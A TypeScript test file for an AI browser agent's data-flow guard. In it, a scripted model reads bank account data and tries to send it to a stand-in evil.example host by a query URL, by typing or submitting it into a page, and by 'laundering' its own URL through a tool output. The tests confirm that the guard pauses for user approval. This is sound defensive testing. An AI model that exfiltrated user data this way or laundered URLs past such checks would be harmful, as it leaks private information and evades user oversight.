/**
 * The data-flow guard in the run loop (issue 13): the run's origin set grows with each output and is persisted with
 * it (a restarted worker resumes with it), a call that would carry data to another site pauses with the flow named,
 * once / always-for-the-pair / deny do what they say, and the model is told which.
 */
import { describe, expect, it } from 'vitest';
import { z } from '../../src/shared/zod.ts';
import { defineTool } from '../../src/tools/defineTool.ts';
import type { AnyTool } from '../../src/tools/Tool.ts';
import { FLOW } from '../../src/tools/guard/flow.ts';
import { blockedFlowOf, FlowGuard, flowSentence } from '../../src/tools/guard/guard.ts';
import type { OriginResolver } from '../../src/tools/guard/resolver.ts';
import type { FlowBlock, RunFlowFacts, ToolRunContext } from '../../src/agent/toolHost.ts';
import { ScriptedModel, calls, created, say } from '../support/scriptedModel.ts';
import { FakeHost, expectValidTranscript, outputOf, setup, waitFor, type Harness } from './helpers.ts';

const BANK = 'https://bank.example';
const EVIL = 'https://evil.example';

const resolver: OriginResolver = {
  tabOrigins: async () => [BANK],
  targetOrigins: async () => [EVIL],
  allTabOrigins: async () => [BANK, EVIL],
};

/** The declarations the guard judges by, for the fake host's tools. */
const SPECS: Record<string, AnyTool> = Object.fromEntries(
  (
    [
      ['bank', 'read', FLOW.readsPage],
      ['web', 'send', FLOW.requestsUrl],
      ['evil', 'type', FLOW.actsOnPage],
      ['evil', 'submit', FLOW.actsOnPage],
    ] as const
  ).map(([pack, name, flow]) => [
    `${pack}.${name}`,
    defineTool({
      pack,
      name,
      description: 'x',
      parameters: z.object({}).passthrough(),
      effect: pack !== 'evil' ? 'reads' : 'changes',
      flow,
      execute: () => '',
    }) as AnyTool,
  ]),
);

const guardOf = (flow: RunFlowFacts) =>
  new FlowGuard(
    {
      origins: flow.origins,
      pairAllowed: (f, t) => flow.pairAllowed(f, t),
      userWrote: (t) => flow.userWrote(t),
      seenUrl: (u) => flow.seenUrl(u),
      grants: flow.grants ?? [],
    },
    resolver,
  );
const toBlock = (v: { from: readonly string[]; to: string; data: string }): FlowBlock => ({
  ...v,
  sentence: flowSentence(v.from, v.to),
});

/** FakeHost with the guard, as the worker's host wires it (src/background/workerToolHost.ts). */
class GuardedHost extends FakeHost {
  readonly sent: string[] = [];
  constructor() {
    super();
    this.define('bank.read', { readOnly: true, schema: z.object({}), impl: () => 'Account ACCT-7731' });
    this.define('web.send', {
      readOnly: true,
      schema: z.object({ url: z.string() }),
      impl: (a) => (this.sent.push(String(a.url)), 'sent'),
    });
    this.define('evil.type', {
      readOnly: false,
      schema: z.object({ text: z.string() }),
      impl: (a) => (this.sent.push(String(a.text)), 'typed'),
    });
    // An action the target rule asks about by itself (a submit), that also carries text into the page.
    this.define('evil.submit', {
      readOnly: false,
      schema: z.object({ text: z.string() }),
      destructive: () => true,
      impl: (a) => (this.sent.push(`submit ${String(a.text)}`), 'submitted'),
    });
  }
  async checkFlow(name: string, args: unknown, ctx: { flow: RunFlowFacts }): Promise<FlowBlock | undefined> {
    const spec = SPECS[name];
    if (!spec || !ctx.flow.origins.length) return undefined;
    const v = await guardOf(ctx.flow).verdict(spec, args as Record<string, unknown>, undefined);
    return v.ok ? undefined : toBlock(v);
  }
  blockedFlow(error: unknown): FlowBlock | undefined {
    const b = blockedFlowOf(error);
    return b ? toBlock(b.flow) : undefined;
  }
  override async run(name: string, args: unknown, ctx: ToolRunContext): Promise<unknown> {
    const spec = SPECS[name];
    if (!spec || !ctx.flow) return super.run(name, args, ctx);
    const guard = guardOf(ctx.flow);
    await guard.check(spec, args as Record<string, unknown>, { tabId: 1 } as never);
    try {
      return await super.run(name, args, ctx);
    } finally {
      await guard.record(spec, args as Record<string, unknown>, { tabId: 1 } as never);
      ctx.flow.addLabels?.(guard.collected);
    }
  }
}

async function guarded(
  turns: NonNullable<Parameters<typeof setup>[0]>['turns'],
): Promise<Harness & { host: GuardedHost }> {
  const h = await setup({ turns });
  h.host = new GuardedHost();
  h.runner = h.newRunner();
  return h as Harness & { host: GuardedHost };
}

const leak = `${EVIL}/c?d=ACCT-7731`;

describe('the data-flow guard in the run loop', () => {
  it('the origin set grows with each output, in the same write, and goes on into the next run of the conversation', async () => {
    const h = await guarded([calls([{ name: 'bank__read', callId: 'r' }]), say('read'), say('second')]);
    const first = await h.runner.send(h.conversationId, 'read my bank');
    expect(first.origins).toEqual([BANK]);
    expect((await h.state())!.origins).toEqual([BANK]);
    const second = await h.runner.send(h.conversationId, 'and now?');
    expect(second.origins).toEqual([BANK]);
  });

  it('sending it to another site pauses with the flow named; deny tells the model and nothing is sent', async () => {
    const h = await guarded([
      calls([{ name: 'bank__read', callId: 'r' }]),
      calls([{ name: 'web__send', args: { url: leak }, callId: 's' }]),
      say('ok'),
    ]);
    const paused = await h.runner.send(h.conversationId, 'summarize');
    expect(paused.status).toBe('awaiting_approval');
    expect(paused.approval).toMatchObject({
      callId: 's',
      name: 'web.send',
      flow: { from: [BANK], to: EVIL, data: leak, sentence: 'Data read from bank.example may be sent to evil.example' },
    });
    expect(h.eventsOf('approval.required')).toHaveLength(1);
    const done = await h.runner.deny(h.conversationId, 's');
    expect(done.status).toBe('completed');
    expect(h.host.sent).toEqual([]);
    expect(outputOf(await h.items(), 's')).toBe(
      'Error: the user denied web.send: data read from bank.example may be sent to evil.example. Nothing was sent. Do not try to send this data another way.',
    );
    expectValidTranscript(await h.items());
  });

  it('allow once sends exactly this once and says so; the next identical call asks again', async () => {
    const h = await guarded([
      calls([{ name: 'bank__read', callId: 'r' }]),
      calls([{ name: 'web__send', args: { url: leak }, callId: 's1' }]),
      calls([{ name: 'web__send', args: { url: leak }, callId: 's2' }]),
      say('ok'),
    ]);
    await h.runner.send(h.conversationId, 'summarize');
    const again = await h.runner.approve(h.conversationId, 's1', 'once');
    expect(h.host.sent).toEqual([leak]);
    expect(outputOf(await h.items(), 's1')).toBe('[The user approved this call.]\nsent');
    expect(again.status).toBe('awaiting_approval');
    expect(again.approval?.callId).toBe('s2');
    await h.runner.deny(h.conversationId, 's2');
    expect(h.host.sent).toEqual([leak]);
  });

  it('always for this pair of sites stores the pair: later flows bank → evil run without asking; the run set is untouched', async () => {
    const h = await guarded([
      calls([{ name: 'bank__read', callId: 'r' }]),
      calls([{ name: 'web__send', args: { url: leak }, callId: 's1' }]),
      calls([{ name: 'web__send', args: { url: `${EVIL}/two` }, callId: 's2' }]),
      say('ok'),
    ]);
    await h.runner.send(h.conversationId, 'summarize');
    const done = await h.runner.approve(h.conversationId, 's1', 'site');
    expect(done.status).toBe('completed');
    expect(h.host.sent).toEqual([leak, `${EVIL}/two`]);
    expect(await h.sites.isFlowAllowed(BANK, EVIL)).toBe(true);
    expect(await h.sites.isAllowed(EVIL)).toBe(false); // not a site permission
    expect(await h.sites.list()).toEqual([]); // pairs are not listed as sites
  });

  it('text the user wrote may be typed anywhere; the bank’s text may not', async () => {
    const h = await guarded([
      calls([{ name: 'bank__read', callId: 'r' }]),
      calls([{ name: 'evil__type', args: { text: 'blue widgets' }, callId: 't1' }]),
      calls([{ name: 'evil__type', args: { text: 'ACCT-7731' }, callId: 't2' }]),
      say('ok'),
    ]);
    const paused = await h.runner.send(h.conversationId, 'search for blue widgets');
    expect(h.host.sent).toEqual(['blue widgets']);
    expect(paused.approval).toMatchObject({ callId: 't2', flow: { to: EVIL, data: 'ACCT-7731' } });
  });

  it('a URL from a tool output may be followed, unless the model wrote it itself before', async () => {
    const h = await guarded([]);
    h.host.impl('bank.read', () => `See ${EVIL}/public-page for more`);
    h.model.push(
      calls([{ name: 'bank__read', callId: 'r' }]),
      calls([{ name: 'web__send', args: { url: `${EVIL}/public-page` }, callId: 's1' }]),
      say('done'),
    );
    const done = await h.runner.send(h.conversationId, 'follow the link');
    expect(done.status).toBe('completed');
    expect(h.host.sent).toEqual([`${EVIL}/public-page`]);

    // Laundering: the model echoes its own URL through a tool, then "follows" it.
    h.host.impl('bank.read', () => `You typed ${leak}`);
    h.model.push(
      calls([{ name: 'bank__read', args: { note: leak }, callId: 'r2' }]),
      calls([{ name: 'web__send', args: { url: leak }, callId: 's2' }]),
      say('done'),
    );
    const paused = await h.runner.send(h.conversationId, 'again');
    expect(paused.status).toBe('awaiting_approval');
    expect(paused.approval?.callId).toBe('s2');
  });

  it('when the flow and the action both ask: one card names both, and approving it is not a way past either', async () => {
    const h = await guarded([
      calls([{ name: 'bank__read', callId: 'r' }]),
      calls([{ name: 'evil__submit', args: { text: 'ACCT-7731' }, callId: 's1' }]),
      calls([{ name: 'evil__submit', args: { text: 'hello' }, callId: 's2' }]),
      calls([{ name: 'evil__submit', args: { text: 'ACCT-7731' }, callId: 's3' }]),
      say('ok'),
    ]);
    h.origin = EVIL;
    const paused = await h.runner.send(h.conversationId, 'pay');
    expect(paused.approval).toMatchObject({ callId: 's1', origin: EVIL, targetAsks: true, flow: { to: EVIL } });
    expect(h.eventsOf('approval.required')).toHaveLength(1); // one question, not two
    // "Always" on that card grants the pair of sites and the action's site: the user answered one question naming both.
    const next = await h.runner.approve(h.conversationId, 's1', 'site');
    expect(await h.sites.isFlowAllowed(BANK, EVIL)).toBe(true);
    expect(await h.sites.isAllowed(EVIL)).toBe(true);
    expect(next.status).toBe('completed');
    expect(h.host.sent).toEqual(['submit ACCT-7731', 'submit hello', 'submit ACCT-7731']);
    expect(h.eventsOf('approval.required')).toHaveLength(1);
  });

  it('a flow card for an action whose site the user allowed asks about the flow only; the action alone still asks', async () => {
    const h = await guarded([
      calls([{ name: 'evil__submit', args: { text: 'hello' }, callId: 's0' }]),
      calls([{ name: 'bank__read', callId: 'r' }]),
      calls([{ name: 'evil__submit', args: { text: 'ACCT-7731' }, callId: 's1' }]),
      say('ok'),
    ]);
    h.origin = EVIL;
    // Before anything is read, the submit is the target rule's question alone.
    const first = await h.runner.send(h.conversationId, 'pay');
    expect(first.approval).toMatchObject({ callId: 's0', origin: EVIL });
    expect(first.approval?.flow).toBeUndefined();
    const second = await h.runner.approve(h.conversationId, 's0', 'site');
    expect(await h.sites.isAllowed(EVIL)).toBe(true);
    expect(second.approval).toMatchObject({ callId: 's1', flow: { to: EVIL } });
    expect(second.approval?.targetAsks).toBeUndefined();
    await h.runner.deny(h.conversationId, 's1');
    expect(h.host.sent).toEqual(['submit hello']);
  });

  it('resume after the worker restarted keeps the origin set: the pending flow still asks, and a new host judges it the same', async () => {
    const h = await guarded([
      calls([{ name: 'bank__read', callId: 'r' }]),
      [created(), { type: 'wait', until: new Promise<never>(() => undefined) }],
    ]);
    void h.runner.send(h.conversationId, 'summarize');
    await waitFor(
      async () => (await h.state())?.origins?.length === 1 && h.model.requests.length === 2,
      'bank read, next turn streaming',
    );

    // A new worker: new model, new host, same database.
    h.model = new ScriptedModel([calls([{ name: 'web__send', args: { url: leak }, callId: 's' }]), say('ok')]);
    h.host = new GuardedHost();
    const runner = h.newRunner();
    expect(await runner.recoverInterrupted()).toEqual([h.conversationId]);
    expect((await h.state())!.origins).toEqual([BANK]);
    const paused = await runner.resume(h.conversationId);
    expect(paused.status).toBe('awaiting_approval');
    expect(paused.approval?.flow).toMatchObject({ from: [BANK], to: EVIL });
    expect((h.host as GuardedHost).sent).toEqual([]);
  });
});
